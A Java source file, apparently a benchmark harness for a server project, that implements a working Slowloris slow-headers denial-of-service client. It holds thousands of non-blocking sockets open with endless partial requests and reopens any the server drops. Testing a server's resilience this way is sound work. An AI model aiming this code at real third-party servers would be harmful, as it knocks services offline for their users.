package io.etserve.bench;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

/**
 * Slow headers on one thread: {@code connections} sockets, each sending the start of a request
 * head and then one more header byte every {@code interval}, never finishing it. A socket the
 * server closes (or answers) is opened again at once, as the attack tools do, so the server
 * faces as many as it lets in for as long as it runs. Non-blocking, so thousands of sockets cost
 * the attacker one thread.
 */
final class Slowloris implements AutoCloseable {

    private static final byte[] START = "GET /v2/health/live HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
            .getBytes(StandardCharsets.US_ASCII);

    private final InetSocketAddress target;
    private final int connections;
    private final long intervalNanos;
    private final Selector selector;
    private final Thread thread;
    private volatile boolean running = true;
    /** Sockets connected now (the handshake done, the head begun). */
    private final AtomicLong connected = new AtomicLong();
    /** Sockets the server closed or answered, each replaced by a new one. */
    private final AtomicLong closedByServer = new AtomicLong();
    /** Connection attempts that failed or timed out (a full accept queue). */
    private final AtomicLong refused = new AtomicLong();
    private final AtomicLong peak = new AtomicLong();

    Slowloris(InetSocketAddress target, int connections, long interval, TimeUnit unit) throws IOException {
        this.target = target;
        this.connections = connections;
        this.intervalNanos = unit.toNanos(interval);
        this.selector = Selector.open();
        this.thread = new Thread(this::run, "slowloris");
        this.thread.setDaemon(true);
    }

    Slowloris start() {
        thread.start();
        return this;
    }

    long connected() {
        return connected.get();
    }

    long peak() {
        return peak.get();
    }

    long closedByServer() {
        return closedByServer.get();
    }

    long refused() {
        return refused.get();
    }

    /** Per socket: when it was opened and when it last sent a byte. */
    private static final class Attacker {
        final long opened = System.nanoTime();
        long lastByte;
        boolean established;
    }

    private void run() {
        ByteBuffer one = ByteBuffer.wrap(new byte[] {'a'});
        ByteBuffer scratch = ByteBuffer.allocate(4096);
        List<SelectionKey> live = new ArrayList<>();
        try {
            while (running) {
                // Keep `connections` sockets open or opening; a few hundred new ones per round so
                // the first thousands do not all wait in the accept queue at once.
                int opening = 0;
                while (selector.keys().size() < connections && opening++ < 256) {
                    open();
                }
                selector.select(50);
                Iterator<SelectionKey> it = selector.selectedKeys().iterator();
                while (it.hasNext()) {
                    SelectionKey key = it.next();
                    it.remove();
                    SocketChannel ch = (SocketChannel) key.channel();
                    Attacker a = (Attacker) key.attachment();
                    try {
                        if (key.isConnectable()) {
                            ch.finishConnect();
                            ch.write(ByteBuffer.wrap(START));
                            a.established = true;
                            a.lastByte = System.nanoTime();
                            peak.accumulateAndGet(connected.incrementAndGet(), Math::max);
                            key.interestOps(SelectionKey.OP_READ);
                        } else if (key.isReadable()) {
                            scratch.clear();
                            if (ch.read(scratch) != 0) {
                                // An answer (408, 400) or the end: the server let it go.
                                drop(key, true);
                            }
                        }
                    } catch (IOException e) {
                        drop(key, a.established);
                        if (!a.established) {
                            refused.incrementAndGet();
                        }
                    }
                }
                long now = System.nanoTime();
                live.clear();
                live.addAll(selector.keys());
                for (SelectionKey key : live) {
                    Attacker a = (Attacker) key.attachment();
                    if (!key.isValid()) {
                        continue;
                    }
                    if (!a.established && now - a.opened > TimeUnit.SECONDS.toNanos(5)) {
                        refused.incrementAndGet();  // never accepted: try again
                        drop(key, false);
                    } else if (a.established && now - a.lastByte >= intervalNanos) {
                        try {
                            ((SocketChannel) key.channel()).write(one.clear());
                            a.lastByte = now;
                        } catch (IOException e) {
                            drop(key, true);
                        }
                    }
                }
            }
        } catch (IOException | RuntimeException e) {
            if (running) {
                e.printStackTrace();
            }
        } finally {
            for (SelectionKey key : new ArrayList<>(selector.keys())) {
                closeQuietly(key);
            }
        }
    }

    private void open() throws IOException {
        SocketChannel ch = SocketChannel.open();
        ch.configureBlocking(false);
        try {
            ch.connect(target);
            ch.register(selector, SelectionKey.OP_CONNECT, new Attacker());
        } catch (IOException e) {
            refused.incrementAndGet();
            ch.close();
        }
    }

    private void drop(SelectionKey key, boolean byServer) {
        Attacker a = (Attacker) key.attachment();
        if (a.established) {
            connected.decrementAndGet();
            if (byServer) {
                closedByServer.incrementAndGet();
            }
        }
        closeQuietly(key);
    }

    private static void closeQuietly(SelectionKey key) {
        key.cancel();
        try {
            key.channel().close();
        } catch (IOException ignored) {
            // closing anyway
        }
    }

    @Override
    public void close() throws IOException {
        running = false;
        selector.wakeup();
        try {
            thread.join(10_000);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
        selector.close();
    }
}
